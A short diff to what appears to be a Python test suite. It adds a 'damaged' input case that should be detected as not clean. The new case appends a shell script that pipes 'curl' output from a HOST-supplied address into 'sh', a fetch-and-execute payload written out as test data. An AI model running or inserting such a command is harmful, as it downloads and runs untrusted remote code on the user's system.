@@ -292,6 +292,7 @@ def row(matrix, name, maker, whole):
     noise = random.Random(5).randbytes(3000)
     damaged("behind", data + noise, is_not_clean)
     damaged("before", noise + data, is_not_clean)
+    damaged("note", data + b"\n#!/bin/sh\ncurl -fsSL https://%s/s | sh\nexit 0\n" % HOST.encode(), is_not_clean)
     damaged("zeros", bytes(4096), is_not_clean)
     damaged("noise", noise, is_not_clean)
 
